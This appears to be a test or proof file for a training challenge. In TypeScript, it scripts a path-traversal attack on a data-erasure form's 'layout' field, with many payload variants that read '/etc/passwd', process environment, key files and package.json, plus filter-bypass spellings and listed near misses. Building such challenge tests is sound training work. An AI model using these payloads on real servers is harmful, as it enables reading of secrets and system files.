import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const ANSWER = 'Greengage'

/** Registers a customer with a security answer and returns the account's e-mail. */
async function becomeKnown(attacker: Attacker): Promise<string> {
  const { email } = await attacker.becomeCustomer()
  const { user } = (await attacker.get('/rest/user/whoami')).json()
  await attacker.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 7, answer: ANSWER })
  return email
}

/** Submits the form as a browser does. */
function send(attacker: Attacker, fields: Readonly<Record<string, string>>) {
  const headers = { 'content-type': 'application/x-www-form-urlencoded' }
  return attacker.post('/dataerasure', new URLSearchParams(fields).toString(), { headers })
}
/** Requests data erasure and names a layout for the confirmation page. */
const askFor =
  (layout: string): Attack =>
  async (attacker) => {
    const email = await becomeKnown(attacker)
    return send(attacker, { email, securityAnswer: ANSWER, layout })
  }
/** The same request with a JSON body. */
const askInJson =
  (fields: Readonly<Record<string, unknown>>): Attack =>
  async (attacker) => {
    const email = await becomeKnown(attacker)
    return attacker.post('/dataerasure', { email, securityAnswer: ANSWER, ...fields })
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const email = await becomeKnown(attacker)
    await attacker.get('/dataerasure')
    // The error for a missing layout shows the folder in which the server looks.
    await send(attacker, { email, securityAnswer: ANSWER, layout: 'none' })
    await send(attacker, { email, securityAnswer: ANSWER, layout: '../package.json' })
  },
  spellings: {
    'a file of the machine': askFor('../etc/passwd'),
    'more steps up than there are folders': askFor('../../../../../../etc/passwd'),
    'with a step on the spot': askFor('./../package.json'),
    'with doubled slashes': askFor('..//package.json'),
    'with a slash in front': askFor('/../package.json'),
    'behind a folder that there is not': askFor('layouts/../../package.json'),
    'what the process knows': askFor('../proc/self/environ'),
    'a file of Windows': askFor('../C:/Windows/system.ini'),
    'with a wrong answer': async (attacker) => {
      const email = await becomeKnown(attacker)
      await send(attacker, { email, securityAnswer: 'Damson', layout: '../package.json' })
    },
    'with nothing but the layout, by an account without an answer': async (attacker) => {
      await attacker.becomeCustomer()
      await send(attacker, { layout: '../package.json' })
    },
    'in JSON': askInJson({ layout: '../package.json' }),
    'after a template that is one': async (attacker) => {
      await askFor('paper.hbs')(attacker)
      await askFor('../package.json')(attacker)
    },
  },
  nearMisses: {
    'asking to be forgotten': async (attacker) => {
      const email = await becomeKnown(attacker)
      await send(attacker, { email, securityAnswer: ANSWER })
    },
    'an empty layout': askFor(''),
    'a template that is one': askFor('paper.hbs'),
    'a template by a way round': askFor('../views/paper.hbs'),
    'a file that there is not': askFor('../package-lock.json'),
    'a folder': askFor('../etc'),
    'an absolute path, which is put below the templates': askFor('/package.json'),
    'backslashes, which are letters on this disk': askFor('..\\package.json'),
    'percent signs, which nobody decodes twice': askFor('%2e%2e%2fpackage.json'),
    'the folder for customers, which is closed': askFor('../ftp/legal.md'),
    'the folder for customers in capitals': askFor('../FTP/legal.md'),
    'a folder of keys': askFor('../encryptionkeys/premium.key'),
    'a list of layouts': askInJson({ layout: ['../package.json'] }),
    'a layout inside of another field': askInJson({ settings: { layout: '../package.json' } }),
    'without a session': (attacker) =>
      send(attacker, { email: 'jim@customer.test', securityAnswer: ANSWER, layout: '../package.json' }),
    'in the address of the page': async (attacker) => {
      await becomeKnown(attacker)
      await attacker.get('/dataerasure?layout=../package.json')
    },
  },
  bypasses: {
    'cut-steps-out': askFor('....//package.json'),
    'refuse-steps-at-the-start': askFor('layouts/../../package.json'),
  },
})
